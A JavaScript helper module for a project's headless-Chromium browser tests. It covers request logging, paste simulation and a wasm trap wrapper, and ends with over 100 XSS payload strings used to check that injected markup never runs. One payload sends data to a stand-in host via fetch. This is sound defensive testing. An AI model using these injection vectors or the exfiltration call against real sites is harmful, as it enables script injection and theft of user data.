// Shared helpers for the browser suites: Debian Chromium through
// playwright-core, the project's static server on a free port, a log of every
// request the browser makes, and the shared (third-party) articles, read at
// run time only.

import { chromium } from 'playwright-core';
import { existsSync, readFileSync, mkdirSync } from 'node:fs';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { serve } from '../../scripts/serve.mjs';

export const ROOT = resolve(dirname(fileURLToPath(import.meta.url)), '../..');
export const WWW = join(ROOT, 'www');
export const SHARED = resolve(ROOT, process.env.LEDE_SHARED || '../shared');
export const CHROMIUM = process.env.CHROMIUM || '/usr/bin/chromium';

export const CHROMIUM_ARGS = [
  '--no-sandbox',
  '--disable-gpu',
  '--disable-quic',
  '--no-first-run',
  '--disable-background-networking',
  '--disable-component-update',
  '--disable-sync',
  // Chromium 156 loads its omnibox popup (a WebUI page, ~100 modules) with every new window: not
  // part of any page here, it only competes with the pages for the CPU.
  '--disable-features=WebUIOmniboxPopup,WebUIOmniboxAimPopup,WebUIOmniboxFullPopup',
];

/** Why a suite cannot run here, or null when it can. */
export function missing() {
  if (!existsSync(CHROMIUM)) return `no Chromium at ${CHROMIUM} (apt-get install chromium)`;
  if (!existsSync(join(WWW, 'pkg', 'lede_bg.wasm'))) return 'www/pkg is not built (make wasm)';
  return null;
}

/** Launches headless Chromium. */
export function launch(options = {}) {
  return chromium.launch({ executablePath: CHROMIUM, headless: true, args: CHROMIUM_ARGS, ...options });
}

/** Serves a directory (default www/) on 127.0.0.1, a free port. */
export function start(options = {}) {
  return serve({ root: WWW, port: 0, ...options });
}

/**
 * Records every request a browser context makes (pages and workers), and
 * every console error, page error and dialog.
 */
export function record(context) {
  const log = { requests: [], errors: [], dialogs: [] };
  context.on('request', (r) => log.requests.push(r.url()));
  context.on('page', (page) => watch(page, log));
  for (const p of context.pages()) watch(p, log);
  return log;
}

function watch(page, log) {
  page.on('pageerror', (e) => log.errors.push(`pageerror: ${e.message}`));
  page.on('console', (m) => {
    if (m.type() === 'error') log.errors.push(`console: ${m.text()}`);
  });
  page.on('dialog', (d) => {
    log.dialogs.push(`${d.type()}: ${d.message()}`);
    d.dismiss().catch(() => {});
  });
}

/** The URLs in `requests` that are not under `origin` (blob: and data: are local). */
export function foreign(requests, ...origins) {
  return requests.filter((u) => !u.startsWith('blob:') && !u.startsWith('data:') && !origins.some((o) => u.startsWith(`${o}/`)));
}

/** A shared article's text, or null (with a notice) when ../shared is absent. */
export function sharedArticle(name) {
  const path = join(SHARED, 'articles', name);
  if (!existsSync(path)) {
    console.log(`# notice: ${path} is absent (set LEDE_SHARED); skipping what needs it`);
    return null;
  }
  return readFileSync(path, 'utf8');
}

/** Where screenshots go: target/screenshots/. */
export function screenshotPath(name) {
  const dir = join(ROOT, 'target', 'screenshots');
  mkdirSync(dir, { recursive: true });
  return join(dir, name);
}

/**
 * Pastes `text` into the focused element with a real paste event carrying a
 * DataTransfer (text/plain, and text/html when given), as a clipboard paste does.
 */
export async function paste(page, selector, text, html) {
  await page.focus(selector);
  await page.evaluate(
    ([sel, t, hm]) => {
      const el = document.querySelector(sel);
      const dt = new DataTransfer();
      dt.setData('text/plain', t);
      if (hm) dt.setData('text/html', hm);
      el.dispatchEvent(new ClipboardEvent('paste', { clipboardData: dt, bubbles: true, cancelable: true }));
    },
    [selector, text, html],
  );
}

/** The marker that makes a glue routed through `routeTrappingGlue` trap. */
export const TRAP_MARKER = '\u2063lede-trap\u2063';

/**
 * Serves the wasm-bindgen glue (pkg/lede.js) with its `analyze` wrapped so
 * that an input containing TRAP_MARKER runs a real wasm `unreachable` and
 * leaves that instance dead, as a Rust panic (panic=abort) would: every later
 * call on it traps too. A fresh instance (new glue module) works again.
 */
export async function routeTrappingGlue(target) {
  await target.route(/\/pkg\/lede\.js(\?.*)?$/, async (route) => {
    const res = await route.fetch();
    const body = `${await res.text()}
;{
  // Test wrapper (tests/e2e/helpers.mjs): a real trap, from a module whose only function is 'unreachable'.
  const trapper = new WebAssembly.Instance(new WebAssembly.Module(new Uint8Array([
    0, 97, 115, 109, 1, 0, 0, 0, 1, 4, 1, 96, 0, 0, 3, 2, 1, 0, 7, 5, 1, 1, 102, 0, 0, 10, 5, 1, 3, 0, 0, 11]))).exports.f;
  const real = analyze;
  let dead = false;
  analyze = function (text, options) {
    if (dead || String(text).includes(${JSON.stringify(TRAP_MARKER)})) { dead = true; trapper(); }
    return real(text, options);
  };
}
`;
    await route.fulfill({ response: res, body, headers: { ...res.headers(), 'content-type': 'text/javascript; charset=utf-8' } });
  });
}

/** Escapes text for an HTML fixture (so a payload is page text, as a CMS would show it). */
export function escapeHtml(s) {
  return s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
}

const XSS_BASE = [
  '<img src=x onerror=alert(1)>',
  '<script>alert(2)</script>',
  '<svg onload=alert(3)>',
  '<svg><script>alert(4)</script></svg>',
  '<a href="javascript:alert(5)">click</a>',
  '<iframe src="javascript:alert(6)"></iframe>',
  '<iframe srcdoc="<script>alert(7)</script>"></iframe>',
  '<body onload=alert(8)>',
  '<input autofocus onfocus=alert(9)>',
  '<details open ontoggle=alert(10)>',
  '<video><source onerror=alert(11)></video>',
  '<audio src=x onerror=alert(12)>',
  '<marquee onstart=alert(13)>',
  '<object data="javascript:alert(14)"></object>',
  '<embed src="javascript:alert(15)">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(16)>',
  '<form action="javascript:alert(17)"><button>go</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(18)">',
  '<link rel=import href="data:text/html,<script>alert(19)</script>">',
  '<base href="javascript:alert(20)//">',
  '"><script>alert(21)</script>',
  "'><img src=x onerror=alert(22)>",
  '</textarea><script>alert(23)</script>',
  '</title><script>alert(24)</script>',
  '<style>@import "javascript:alert(25)";</style>',
  '<div style="background:url(javascript:alert(26))">',
  '<img src="x" onerror="&#97;&#108;&#101;&#114;&#116;(27)">',
  '<img src=x onerror=\\u0061lert(28)>',
  '<scr<script>ipt>alert(29)</scr</script>ipt>',
  '{{constructor.constructor("alert(30)")()}}',
  '${alert(31)}',
  '#{alert(32)}',
  '<%= alert(33) %>',
  '{{7*7}}[[7*7]]',
  'javascript:alert(35)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgzNik8L3NjcmlwdD4=',
  '<template><img src=x onerror=alert(37)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(38)>">',
  '<svg><animate onbegin=alert(39) attributeName=x dur=1s>',
  '<img src=x onerror=fetch("http://198.51.100.7/leak")>',
  '\u003cimg src=x onerror=alert(41)\u003e',
  '<IMG SRC=JaVaScRiPt:alert(42)>',
  '<img src=`x` onerror=alert(43)>',
  '<svg/onload=alert(44)>',
  '<x contenteditable onblur=alert(45)>lose focus</x>',
];

/**
 * At least 100 XSS payloads: each base vector bare, inside a quotation, and
 * next to a figure and a name (where the highlighter looks hardest).
 */
export const XSS_PAYLOADS = XSS_BASE.flatMap((p) => [p, `Kelly said "${p}" on Monday.`, `Acme Corp paid $5 million for ${p} in Paris.`]);
